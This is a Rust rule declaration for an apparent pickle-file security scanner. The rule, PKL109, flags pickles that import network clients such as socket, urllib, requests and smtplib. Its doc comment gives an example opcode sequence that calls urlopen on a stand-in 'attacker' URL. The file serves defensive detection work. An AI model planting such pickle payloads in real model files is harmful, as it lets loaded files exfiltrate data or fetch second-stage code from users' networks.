loadguard_core::declare_rule! {
/// ## What it does
/// Flags `socket`, `http.client`, `urllib`, `requests`, `smtplib`, `ftplib`, `webbrowser`,
/// `torch.hub` downloads, `pandas.read_csv` and other network clients and servers.
///
/// ## Why is this bad?
/// A model that phones home can exfiltrate data, fetch a second stage, or make requests from inside
/// your network (SSRF).
///
/// ## Example
/// ```text
/// G(urllib.request urlopen) S('http://attacker/x') T1 R
/// ```
///
/// ## How to fix
/// Do not load the file. A model has no reason to open connections at load time.
///
/// ## References
/// - [CWE-918](https://cwe.mitre.org/data/definitions/918.html)
    pub static RULE = {
        code: "PKL109",
        name: "pickle-network-access",
        summary: "the pickle opens network connections",
        severity: High,
        confidence: High,
        cwe: 918,
    };
}
